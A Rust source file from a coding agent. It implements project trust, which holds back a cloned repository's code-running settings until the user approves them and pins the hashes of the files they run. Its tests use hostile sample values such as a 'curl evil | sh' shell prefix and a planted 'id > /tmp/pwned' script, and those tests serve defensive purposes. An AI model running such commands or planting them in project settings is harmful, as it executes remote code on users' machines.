//! Project trust: whether a project's own settings may run code.
//!
//! A cloned repository is written by someone else. Its `.pi/settings.json`
//! may hold settings that start programs ([`RUNS_CODE_KEYS`]: MCP servers,
//! the shell and its prefix, and every later key of that kind); those would
//! run outside the sandbox, before any permission rule sees them. So they
//! are held back ([`Settings::held_back`]) until the user trusts the project:
//!
//! - explicitly, with `coding-agent trust [DIR]`, or by answering the
//!   terminal question of an interactive run;
//! - never implicitly: print, JSON, RPC and MCP modes ask nothing and leave
//!   the settings out, with one warning naming the file and the keys.
//!
//! A trust record is kept in the user's agent directory
//! (`trusted-projects.json`, mode 0600), keyed by the project's canonical
//! path, and it holds the very values the user approved. If the project's
//! code-running settings change afterwards (a sandboxed command may write
//! `.pi/settings.json` when the directory did not exist yet), they are held
//! back again until the user trusts the new values: trust is given to what
//! the user saw, not to whatever the file says later.
//!
//! ```
//! use coding_agent::Settings;
//! use coding_agent::trust::{TrustState, TrustStore};
//! use serde_json::json;
//!
//! let dir = tempfile::tempdir().unwrap();
//! let store = TrustStore::at(dir.path().join("trusted-projects.json"));
//! let project = dir.path();
//! let mut settings = Settings::merged(
//!     json!({"shellPath": "/bin/bash"}),
//!     json!({"shellPath": "/tmp/evil", "bashTimeoutSeconds": 5}),
//! );
//! // Held back: the project's shell is not used, its other settings are.
//! assert_eq!(settings.shell_path().as_deref(), Some("/bin/bash"));
//! assert_eq!(settings.bash_timeout_seconds(), Some(5.0));
//! assert_eq!(store.state(project, settings.held_back()).unwrap(), TrustState::NotTrusted);
//!
//! store.trust(project, settings.held_back()).unwrap();
//! assert_eq!(store.state(project, settings.held_back()).unwrap(), TrustState::Trusted);
//! settings.apply_held_back();
//! assert_eq!(settings.shell_path().as_deref(), Some("/tmp/evil"));
//! ```

use std::io::{self, Write};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use serde_json::{Map, Value, json};

use crate::Settings;
use crate::project_file::read_regular_file;
use agent_tool::path::canonical;

pub use crate::settings::RUNS_CODE_KEYS;

/// The trust file's name inside the agent directory.
pub const TRUST_FILE_NAME: &str = "trusted-projects.json";

/// Whether a project's held-back settings may be applied.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustState {
    /// The user trusted the project with exactly these values.
    Trusted,
    /// No record for the project.
    NotTrusted,
    /// The user trusted the project, but its code-running settings have
    /// changed since.
    Changed,
}

/// The trust records could not be read or written.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// The file could not be read, written or parsed.
    #[error("{path}: {message}")]
    File {
        /// The trust file.
        path: PathBuf,
        /// What went wrong.
        message: String,
    },
    /// The file is not safe to believe: owned by another user, or writable
    /// by others.
    #[error(
        "{path}: not trusted as a record of trust ({why}); fix its owner and mode (0600) or remove it"
    )]
    Unsafe {
        /// The trust file.
        path: PathBuf,
        /// Owner or mode problem.
        why: String,
    },
}

/// The trust records: one JSON file in the user's agent directory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The records in the user's agent directory
    /// ([`agent_dir`](crate::settings::agent_dir)); `None` without a home.
    pub fn in_agent_dir() -> Option<Self> {
        crate::settings::agent_dir().map(|d| Self::at(d.join(TRUST_FILE_NAME)))
    }

    /// The records in `path`.
    pub fn at(path: impl Into<PathBuf>) -> Self {
        TrustStore { path: path.into() }
    }

    /// The file holding the records.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Whether `project` is trusted with `held_back` (the project's
    /// code-running values, [`Settings::held_back`]).
    ///
    /// # Errors
    /// An unreadable, malformed or unsafe trust file (the caller treats the
    /// project as not trusted).
    pub fn state(
        &self,
        project: &Path,
        held_back: &Map<String, Value>,
    ) -> Result<TrustState, TrustError> {
        let records = self.load()?;
        let key = project_key(project);
        Ok(
            match records
                .get(&key)
                .and_then(|r| r.get("settings"))
                .and_then(Value::as_object)
            {
                None => TrustState::NotTrusted,
                Some(approved) if approved == held_back => {
                    // The same values, but the files they run may have
                    // been rewritten (by a sandboxed command, say).
                    let pinned = records.get(&key).and_then(|r| r.get("files"));
                    if pinned == Some(&Value::Object(pinned_files(project, held_back))) {
                        TrustState::Trusted
                    } else {
                        TrustState::Changed
                    }
                }
                Some(_) => TrustState::Changed,
            },
        )
    }

    /// Records that the user trusts `project` with `held_back`.
    ///
    /// # Errors
    /// The file cannot be read or written.
    pub fn trust(&self, project: &Path, held_back: &Map<String, Value>) -> Result<(), TrustError> {
        let mut records = self.load()?;
        records.insert(
            project_key(project),
            json!({
                "trustedAt": agent_ai::now_millis(),
                "settings": held_back,
                "files": pinned_files(project, held_back),
            }),
        );
        self.save(records)
    }

    /// Removes the record of `project`; whether there was one.
    ///
    /// # Errors
    /// The file cannot be read or written.
    pub fn revoke(&self, project: &Path) -> Result<bool, TrustError> {
        let mut records = self.load()?;
        let removed = records.remove(&project_key(project)).is_some();
        if removed {
            self.save(records)?;
        }
        Ok(removed)
    }

    /// The trusted projects' paths.
    ///
    /// # Errors
    /// The file cannot be read.
    pub fn projects(&self) -> Result<Vec<String>, TrustError> {
        Ok(self.load()?.keys().cloned().collect())
    }

    fn error(&self, message: impl std::fmt::Display) -> TrustError {
        TrustError::File {
            path: self.path.clone(),
            message: message.to_string(),
        }
    }

    fn load(&self) -> Result<Map<String, Value>, TrustError> {
        match std::fs::symlink_metadata(&self.path) {
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Map::new()),
            Err(e) => return Err(self.error(e)),
            Ok(meta) => {
                let why = if !meta.file_type().is_file() {
                    Some("not a regular file".to_string())
                } else if meta.uid() != rustix::process::geteuid().as_raw() {
                    Some(format!("owned by uid {}", meta.uid()))
                } else if meta.mode() & 0o022 != 0 {
                    Some(format!(
                        "mode {:o} lets others write it",
                        meta.mode() & 0o777
                    ))
                } else {
                    None
                };
                if let Some(why) = why {
                    return Err(TrustError::Unsafe {
                        path: self.path.clone(),
                        why,
                    });
                }
            }
        }
        let text = read_regular_file(&self.path, crate::MAX_PROJECT_FILE_BYTES)
            .map_err(|e| self.error(e))?
            .unwrap_or_default();
        if text.trim().is_empty() {
            return Ok(Map::new());
        }
        let value: Value = serde_json::from_str(&text).map_err(|e| self.error(e))?;
        match value.get("projects") {
            None => Ok(Map::new()),
            Some(Value::Object(map)) => Ok(map.clone()),
            Some(_) => Err(self.error("`projects` must be an object")),
        }
    }

    fn save(&self, records: Map<String, Value>) -> Result<(), TrustError> {
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir).map_err(|e| self.error(e))?;
        let text = serde_json::to_string_pretty(&json!({"version": 1, "projects": records}))
            .map_err(|e| self.error(e))?;
        // Written whole beside the file and renamed over it: a crash leaves
        // the old records or the new ones, never half of either.
        let temp = dir.join(format!(
            ".{TRUST_FILE_NAME}.{}.{}",
            std::process::id(),
            agent_ai::now_millis()
        ));
        let written = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .custom_flags(rustix::fs::OFlags::NOFOLLOW.bits() as i32)
            .open(&temp)
            .and_then(|mut file| {
                file.write_all(text.as_bytes())?;
                file.write_all(b"\n")?;
                file.sync_all()
            })
            .and_then(|()| std::fs::rename(&temp, &self.path));
        if let Err(e) = written {
            let _ = std::fs::remove_file(&temp);
            return Err(self.error(e));
        }
        Ok(())
    }
}

/// A project's key in the records: its canonical path.
/// The files inside `project` that the code-running values name (a
/// command, a script among the arguments), each with the SHA-256 of its
/// content, or `absent` for a name that holds nothing yet: trust covers what
/// they hold at the time, not only their names. Names are resolved against
/// the project, against a server's `cwd`, and (for a bare command) along
/// `PATH` (an activated `.venv/bin` inside the project).
fn pinned_files(project: &Path, held_back: &Map<String, Value>) -> Map<String, Value> {
    const MAX_FILES: usize = 256;
    const MAX_BYTES: u64 = 4 << 30;
    fn strings<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
        match value {
            Value::String(s) => out.push(s),
            Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
            Value::Object(map) => map.values().for_each(|v| strings(v, out)),
            _ => {}
        }
    }
    let root = std::fs::canonicalize(project).unwrap_or_else(|_| project.to_path_buf());
    // (the strings, the directories they are resolved in)
    let mut groups: Vec<(Vec<&str>, Vec<PathBuf>)> = Vec::new();
    for (key, value) in held_back {
        match (key.as_str(), value.as_object()) {
            ("mcpServers", Some(servers)) => {
                for server in servers.values() {
                    let mut bases = vec![root.clone()];
                    if let Some(cwd) = server.get("cwd").and_then(Value::as_str) {
                        bases.push(root.join(cwd));
                    }
                    let mut texts = Vec::new();
                    strings(server, &mut texts);
                    groups.push((texts, bases));
                }
            }
            _ => {
                let mut texts = Vec::new();
                strings(value, &mut texts);
                groups.push((texts, vec![root.clone()]));
            }
        }
    }
    let path_dirs: Vec<PathBuf> = std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).collect())
        .unwrap_or_default();
    let mut pinned = Map::new();
    for (texts, bases) in groups {
        for text in texts {
            if text.is_empty() || text.len() > 4096 {
                continue;
            }
            let mut candidates: Vec<PathBuf> = bases.iter().map(|b| b.join(text)).collect();
            if !text.contains('/') {
                candidates.extend(path_dirs.iter().map(|d| d.join(text)));
            }
            for candidate in candidates {
                if pinned.len() >= MAX_FILES {
                    return pinned;
                }
                let real = std::fs::canonicalize(&candidate)
                    .unwrap_or_else(|_| agent_tool::path::normalize_path(&candidate));
                if !real.starts_with(&root) || real == root {
                    continue;
                }
                let digest = match std::fs::metadata(&real) {
                    Err(_) => "absent".to_string(),
                    Ok(m) if m.is_dir() => "directory".to_string(),
                    Ok(m) if m.len() > MAX_BYTES => format!("too large to hash: {} bytes", m.len()),
                    Ok(_) => hash_file(&real),
                };
                pinned.insert(real.display().to_string(), Value::String(digest));
            }
        }
    }
    pinned
}

/// The SHA-256 of a file's content, read in pieces.
fn hash_file(path: &Path) -> String {
    use sha2::Digest;
    use std::io::Read;
    let mut hasher = sha2::Sha256::new();
    let mut file = match std::fs::File::open(path) {
        Ok(f) => f,
        Err(e) => return format!("unreadable: {}", e.kind()),
    };
    let mut buf = vec![0u8; 1 << 16];
    loop {
        match file.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => hasher.update(&buf[..n]),
            Err(e) => return format!("unreadable: {}", e.kind()),
        }
    }
    hasher
        .finalize()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn project_key(project: &Path) -> String {
    canonical(project).to_string_lossy().into_owned()
}

/// What [`resolve_project_trust`] did with the held-back settings.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TrustOutcome {
    /// The project holds no code-running settings.
    NothingHeldBack,
    /// Trusted (before, or by the answer just given): applied.
    Applied,
    /// Left out; the warning says why.
    Ignored {
        /// One line naming the file and the keys, for the user.
        warning: String,
    },
}

/// Applies the project's held-back settings if `store` trusts them with
/// their current values, else asks `ask` (a terminal question; `None` in
/// modes without one) and records a yes. The settings stay held back
/// otherwise, and the outcome carries the warning to show.
///
/// `project` is the directory whose `.pi/settings.json` was read.
pub fn resolve_project_trust(
    settings: &mut Settings,
    project: &Path,
    store: Option<&TrustStore>,
    ask: Option<&mut dyn FnMut(&str) -> bool>,
) -> TrustOutcome {
    if settings.held_back().is_empty() {
        return TrustOutcome::NothingHeldBack;
    }
    let file = project.join(".pi").join("settings.json");
    let keys = settings
        .held_back()
        .keys()
        .map(String::as_str)
        .collect::<Vec<_>>()
        .join(", ");
    let state = match store.map(|s| s.state(project, settings.held_back())) {
        Some(Ok(state)) => state,
        Some(Err(e)) => {
            tracing::warn!("{e}");
            TrustState::NotTrusted
        }
        None => TrustState::NotTrusted,
    };
    if state == TrustState::Trusted {
        settings.apply_held_back();
        return TrustOutcome::Applied;
    }
    let why = match state {
        TrustState::Changed => {
            "they, or the project files they run, changed after you trusted this project"
        }
        _ => "this project is not trusted",
    };
    if let Some(ask) = ask {
        let shown = serde_json::to_string_pretty(&Value::Object(settings.held_back().clone()))
            .unwrap_or_default();
        let question = format!(
            "{} wants to run programs outside the sandbox ({why}):\n{shown}\nTrust this project and use these settings?",
            file.display()
        );
        if ask(&question) {
            if let Some(store) = store
                && let Err(e) = store.trust(project, settings.held_back())
            {
                tracing::warn!("the trust was not recorded: {e}");
            }
            settings.apply_held_back();
            return TrustOutcome::Applied;
        }
    }
    TrustOutcome::Ignored {
        warning: format!(
            "{}: ignoring {keys}: {why} (review the file, then run `coding-agent trust {}`)",
            file.display(),
            shell_quote(&project.display().to_string())
        ),
    }
}

fn shell_quote(text: &str) -> String {
    if text
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "/._-+,:@".contains(c))
    {
        text.to_string()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn changed_values_are_held_back_again() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join("agent").join(TRUST_FILE_NAME));
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        let mut s = Settings::merged(json!({}), json!({"shellCommandPrefix": "echo ok"}));
        store.trust(&project, s.held_back()).unwrap();
        let mode = std::fs::metadata(store.path()).unwrap().mode() & 0o777;
        assert_eq!(mode, 0o600);
        assert_eq!(
            resolve_project_trust(&mut s, &project, Some(&store), None),
            TrustOutcome::Applied
        );
        assert_eq!(s.shell_command_prefix().as_deref(), Some("echo ok"));

        let mut s = Settings::merged(json!({}), json!({"shellCommandPrefix": "curl evil | sh"}));
        match resolve_project_trust(&mut s, &project, Some(&store), None) {
            TrustOutcome::Ignored { warning } => {
                assert!(warning.contains("shellCommandPrefix"), "{warning}");
                assert!(warning.contains("changed"), "{warning}");
                assert!(warning.contains(".pi/settings.json"), "{warning}");
            }
            other => panic!("{other:?}"),
        }
        assert_eq!(s.shell_command_prefix(), None);
        // A "yes" records the new values.
        let held = s.held_back().clone();
        let mut yes = |_: &str| true;
        assert_eq!(
            resolve_project_trust(&mut s, &project, Some(&store), Some(&mut yes)),
            TrustOutcome::Applied
        );
        assert_eq!(s.shell_command_prefix().as_deref(), Some("curl evil | sh"));
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        assert!(store.revoke(&project).unwrap());
        assert_eq!(
            store.state(&project, &held).unwrap(),
            TrustState::NotTrusted
        );
    }

    /// Trust pins the project files its values run: the same values over a
    /// rewritten script are held back again.
    #[test]
    fn a_rewritten_script_is_held_back_again() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(project.join("mcp.sh"), "exit 0\n").unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held: Map<String, Value> = serde_json::from_value(json!({
            "mcpServers": {"helper": {"command": "sh", "args": ["mcp.sh"]}}
        }))
        .unwrap();
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(project.join("mcp.sh"), "id > /tmp/pwned\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        std::fs::write(project.join("mcp.sh"), "exit 0\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::remove_file(project.join("mcp.sh")).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        // Resolved in the server's `cwd`, and pinned as absent until made.
        std::fs::create_dir_all(project.join("srv")).unwrap();
        std::fs::write(project.join("srv/server.py"), "benign").unwrap();
        let held: Map<String, Value> = serde_json::from_value(json!({
            "mcpServers": {"s": {"command": "python3", "args": ["server.py", "later.py"], "cwd": "srv"}}
        }))
        .unwrap();
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(project.join("srv/server.py"), "planted").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        std::fs::write(project.join("srv/server.py"), "benign").unwrap();
        std::fs::write(project.join("srv/later.py"), "planted").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
    }

    #[test]
    fn a_file_others_can_write_is_not_believed() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join(TRUST_FILE_NAME));
        store.trust(dir.path(), &Map::new()).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(store.path(), std::fs::Permissions::from_mode(0o666)).unwrap();
        assert!(matches!(
            store.state(dir.path(), &Map::new()),
            Err(TrustError::Unsafe { .. })
        ));
    }
}
